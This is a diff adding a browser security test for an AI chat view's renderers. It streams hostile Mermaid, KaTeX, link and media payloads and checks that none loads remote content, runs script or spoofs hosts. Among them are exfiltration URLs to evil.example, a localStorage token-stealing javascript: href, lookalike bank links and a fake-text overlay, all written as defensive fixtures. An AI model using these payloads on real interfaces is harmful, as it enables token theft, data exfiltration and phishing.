@@ -1,0 +1,192 @@
+/**
+ * The rich renderers under a red team, in a real Chromium: hostile Mermaid, KaTeX, tables, links, media and artifacts
+ * streamed into AgentChatView (math and diagrams on). Every request leaving the page's origin is logged (and aborted):
+ * none may happen without a click. A script canary must stay unset, and no input under 1 MB may block the main thread
+ * for more than 200 ms (long tasks, read by a PerformanceObserver in the page; on a loaded machine, more than twice
+ * what the same size of plain text costs there).
+ */
+import { fileURLToPath } from 'node:url';
+import type { AgentEvent } from '@agent-chat/core';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { launchBrowser, type Browser } from './browser.js';
+import { findChromium } from './find-chromium.mjs';
+import { serveBuiltPage, type StaticPage } from './static-page.js';
+
+const chromiumPath = findChromium();
+// The budget: 200 ms, or on a loaded machine (the suite shares its cores with others) twice the longest task of the
+// same size of plain text streamed in this page, measured first: the renderers may not add a block of their own.
+let longTaskBudgetMs = 200;
+const steal = 'window.__stolen = localStorage.getItem("token")';
+
+let turnNumber = 0;
+/** One answer: `text` streamed in pieces of `piece` characters, then `extra` events, then the turn's end. */
+function answer(text: string, extra: AgentEvent[] = [], piece = 4000): AgentEvent[] {
+  const messageKey = `m${++turnNumber}`;
+  const deltas: AgentEvent[] = (text.match(new RegExp(`[\\s\\S]{1,${piece}}`, 'g')) ?? []).map((chunk) => ({ type: 'text-delta', text: chunk, messageKey }));
+  return [...deltas, ...extra.map((event) => ('messageKey' in event || event.type === 'message-complete' ? { ...event, messageKey } : event) as AgentEvent), { type: 'turn-end', finishReason: 'stop' }];
+}
+
+const fence = (source: string) => ['```mermaid', source, '```'].join('\n');
+const mindmap = (nodes: number) => ['mindmap', '  root((Root))', ...Array.from({ length: nodes - 1 }, (_, index) => `    node${index}[Node ${index}]`)].join('\n');
+const media = (name: string, url: string): AgentEvent => ({ type: 'artifact-upsert', artifact: { name, parts: [{ media: { url, contentType: 'image/png' } }] } });
+
+describe.skipIf(!chromiumPath)('the rich renderers under a red team in Chromium', () => {
+  let site: StaticPage;
+  let browser: Browser;
+  let page: Page;
+  let errors: string[];
+  /** Off-origin requests, each with whether a click allowed it. */
+  const offOrigin: Array<{ url: string; clicked: boolean }> = [];
+  let clicking = false;
+  const unclicked = () => offOrigin.filter((request) => !request.clicked).map((request) => request.url);
+
+  /** Sends one turn and waits for it to end and for every formula and diagram to settle; returns the long tasks it caused. */
+  async function turn(events: AgentEvent[]): Promise<number[]> {
+    const before = await page.evaluate(() => window.hostile.longTasks.length);
+    await page.evaluate((sent) => window.hostile.turn(sent), events);
+    await page.waitForFunction(() => document.querySelectorAll('.acu-math[data-state="source"], .acu-diagram[data-state="source"]').length === 0, undefined, { timeout: 60_000, polling: 100 });
+    // Two frames and a pause: what painting and layout the turn caused has run and been observed.
+    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 300)))));
+    return page.evaluate((from) => window.hostile.longTasks.slice(from), before);
+  }
+
+  async function click(selector: string) {
+    clicking = true;
+    try {
+      await page.locator(selector).last().click();
+      await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
+    } finally {
+      clicking = false;
+    }
+  }
+
+  beforeAll(async () => {
+    site = await serveBuiltPage(fileURLToPath(new URL('./hostile-renderers-page/', import.meta.url)));
+    browser = await launchBrowser(chromiumPath!);
+    ({ page, errors } = await browser.newPage());
+    const origin = new URL(site.url).origin;
+    const isOwn = (url: string) => url.startsWith(origin) || /^(data|blob|about):/.test(url);
+    browser.context.on('request', (request) => {
+      if (!isOwn(request.url())) offOrigin.push({ url: request.url(), clicked: clicking });
+    });
+    await browser.context.route('**/*', (route) => (isOwn(route.request().url()) ? route.continue() : route.abort()));
+    await page.goto(site.url);
+    await page.waitForSelector('body[data-ready]', { state: 'attached' });
+    await turn(answer('Warming up: the Markdown chunk loads.'));
+    const plain = await turn(answer('ab '.repeat(33_000)));
+    longTaskBudgetMs = Math.max(200, 2 * Math.max(0, ...plain));
+  }, 120_000);
+
+  afterAll(async () => {
+    await browser?.close();
+    await site?.close();
+  });
+
+  it('Mermaid fetches nothing: image shapes, HTML labels, theme CSS, fonts and front matter set nothing that loads', async () => {
+    const diagrams = [
+      'flowchart LR\n  A@{ img: "https://evil.example/shape.png?d=SECRET", label: "x", pos: "t", h: 60, constraint: "on" }',
+      '%%{init: {"htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<img src=\'https://evil.example/label.png\'>"] --> B',
+      '%%{init: {"themeCSS": ".node rect{fill:url(https://evil.example/fill.png)} .label{background:url(https://evil.example/css.png)} svg{cursor:url(https://evil.example/cursor.png),auto;mask-image:url(https://evil.example/mask.png)}"}}%%\nflowchart LR\n  A --> B',
+      '%%{init: {"fontFamily": "x;background-image:url(https://evil.example/font.png)", "themeVariables": {"fontFamily": "y;background:url(https://evil.example/font2.png)"}}}%%\nflowchart LR\n  A --> B',
+      '---\nconfig:\n  htmlLabels: true\n  themeCSS: "svg{background:url(https://evil.example/frontmatter.png)}"\n---\nflowchart LR\n  A["<img src=https://evil.example/fm-label.png>"] --> B',
+      'flowchart LR\n  A --> B\n  style A fill:url(https://evil.example/style.svg#p),background-image:url(https://evil.example/style.png)\n  click A href "javascript:' + steal + '"',
+      'flowchart LR\n  Start --> Done',
+    ];
+    const longTasks = await turn(answer(diagrams.map(fence).join('\n\nNext:\n\n')));
+    expect(unclicked()).toEqual([]);
+    // The harmless one (and those whose HTML was refused or locked) are drawn as images; none is live SVG.
+    expect(await page.locator('.acu-diagram[data-state="rendered"] img.acu-diagram__image').count()).toBeGreaterThanOrEqual(1);
+    expect(await page.locator('.acu-chat svg foreignObject, .acu-chat iframe').count()).toBe(0);
+    expect(await page.evaluate(() => (window as { __stolen?: unknown }).__stolen)).toBeUndefined();
+    expect(Math.max(0, ...longTasks), `long tasks ${longTasks.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
+  }, 120_000);
+
+  it('Mermaid within its budget draws without a long task; past it (a 600-node mindmap) it stays source with a note', async () => {
+    const longTasks = await turn(answer(`${fence(mindmap(12))}\n\nAnd a big one:\n\n${fence(mindmap(600))}`));
+    const states = await page.locator('.acu-diagram').evaluateAll((nodes) => nodes.slice(-2).map((node) => node.getAttribute('data-state')));
+    expect(states).toEqual(['rendered', 'too-large']);
+    expect(await page.locator('.acu-diagram[data-state="too-large"] .acu-rendered__note').last().textContent()).toBe('Too large to draw: shown as source.');
+    expect(Math.max(0, ...longTasks), `long tasks ${longTasks.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
+  }, 120_000);
+
+  it('KaTeX: 25,000 formulas in 100 kB, and 3,000 display formulas, never block the main thread past the budget', async () => {
+    const inline = await turn(answer('$a'.repeat(50_000)));
+    expect(Math.max(0, ...inline), `long tasks ${inline.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
+    const display = await turn(answer(Array.from({ length: 3000 }, (_, index) => `$x_{${index}} = \\frac{${index}}{2}$`).join(' ')));
+    expect(Math.max(0, ...display), `long tasks ${display.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
+    expect(await page.locator('.acu-math[data-state="rendered"]').count()).toBeGreaterThan(200);
+  }, 180_000);
+
+  it('a 3,000-column table shows as text with a note, without a long task', async () => {
+    const columns = Array.from({ length: 3000 }, (_, index) => `c${index}`);
+    const table = [`| ${columns.join(' | ')} |`, `| ${columns.map(() => '---').join(' | ')} |`, `| ${columns.join(' | ')} |`].join('\n');
+    const longTasks = await turn(answer(`${table}\n\nafter the table`));
+    expect(await page.locator('.acu-markdown__table-source[data-state="too-large"]').count()).toBe(1);
+    expect(Math.max(0, ...longTasks), `long tasks ${longTasks.join(', ')} ms`).toBeLessThanOrEqual(longTaskBudgetMs);
+  }, 120_000);
+
+  it('links, sources and citations show the host they open; bidi controls cannot reorder it; a URL-looking text of another host is marked', async () => {
+    await turn(answer('[https://bank.example/login](//evil.example/landing) [a](\\\\evil.example/b) [b](/\\evil.example/c) [\u202emoc.knab](https://evil.example/d) see [1]', [
+      { type: 'part-add', part: { source: { url: '//evil.example/source', title: 'Bank' } } } as AgentEvent,
+    ]));
+    const links = await page.locator('.acu-message').last().locator('.acu-markdown a').evaluateAll((nodes) => (nodes as HTMLAnchorElement[]).map((link) => ({
+      host: new URL(link.href).host, label: link.querySelector('.acu-markdown__host')?.textContent ?? null, kind: link.dataset.kind ?? null,
+    })));
+    expect(links.slice(0, 4)).toEqual([
+      { host: 'evil.example', label: '(⚠ evil.example)', kind: 'mismatch' },
+      { host: 'evil.example', label: '(evil.example)', kind: null },
+      { host: 'evil.example', label: '(evil.example)', kind: null },
+      { host: 'evil.example', label: '(⚠ evil.example)', kind: 'mismatch' },
+    ]);
+    // The label is isolated: it reads left to right whatever the text before it does.
+    expect(await page.locator('.acu-markdown__host').last().evaluate((node) => getComputedStyle(node).unicodeBidi)).toBe('isolate');
+    expect(await page.locator('.acu-citation a').last().getAttribute('aria-label')).toBe('Source 1: Bank (evil.example)');
+    expect(await page.locator('.acu-source__host').last().textContent()).toBe('evil.example');
+  }, 60_000);
+
+  it('a consent covers one exact URL: an artifact update or a final message with another URL asks again', async () => {
+    await turn(answer('A chart:', [media('chart', 'https://cdn.example/chart.png')]));
+    await click('.acu-artifact button.acu-media-gate__load');
+    expect(offOrigin.filter((request) => request.clicked).map((request) => request.url)).toContain('https://cdn.example/chart.png');
+    await turn(answer('Updated:', [media('chart', 'https://evil.example/leak.png?d=secret')]));
+    expect(await page.locator('.acu-artifact button.acu-media-gate__load').last().textContent()).toBe('Load image from evil.example');
+
+    await turn(answer('![chart](https://cdn.example/inline.png)'));
+    await click('.acu-message button.acu-media-gate__load');
+    const key = `m${turnNumber}`;
+    await turn([
+      { type: 'text-delta', text: 'Again: ![chart](https://cdn.example/again.png)', messageKey: key },
+      { type: 'message-complete', message: { role: 'model', content: [{ text: 'Again: ![chart](https://evil.example/final.png?d=secret)' }] }, messageKey: key },
+      { type: 'turn-end', finishReason: 'stop' },
+    ]);
+    expect(await page.locator('.acu-message').last().locator('button.acu-media-gate__load').textContent()).toBe('Load image from evil.example');
+    expect(unclicked()).toEqual([]);
+  }, 60_000);
+
+  it('the artifact Download of a remote URL opens a new tab: the app is never navigated away', async () => {
+    await turn(answer('A file:', [{ type: 'artifact-upsert', artifact: { name: 'login', parts: [{ media: { url: 'https://evil.example/fake-login', contentType: 'application/pdf' } }] } }]));
+    const appUrl = page.url();
+    const popup = browser.context.waitForEvent('page', { timeout: 5000 }).catch(() => null);
+    await click('.acu-artifact a.acu-artifact__download');
+    await (await popup)?.close();
+    expect(page.url()).toBe(appUrl);
+    expect(await page.locator('body[data-ready]').count()).toBe(1);
+  }, 60_000);
+
+  it('a formula that reaches past its message paints inside it: it cannot lay fake text over the rest of the page', async () => {
+    await turn(answer('Spacer line.'));
+    await turn(answer('$\\llap{\\text{FAKE}}$ (a formula that paints to the left of its message)'));
+    const hit = await page.evaluate(() => {
+      const fake = [...document.querySelectorAll('.acu-math .katex-html *')].filter((node) => node.textContent === 'FAKE').at(-1)!;
+      const box = fake.getBoundingClientRect();
+      const body = fake.closest('.acu-message__body')!.getBoundingClientRect();
+      const under = document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
+      return { outside: box.right <= body.left + 1 && box.left >= 0, hitsFake: !!under && fake.contains(under) };
+    });
+    expect(hit).toEqual({ outside: true, hitsFake: false });
+    expect(await page.evaluate(() => (window as { __stolen?: unknown }).__stolen)).toBeUndefined();
+    expect(unclicked()).toEqual([]);
+    expect(errors.filter((error) => !/ERR_FAILED|ERR_ABORTED|Content Security Policy|net::/.test(error))).toEqual([]);
+  }, 60_000);
+});
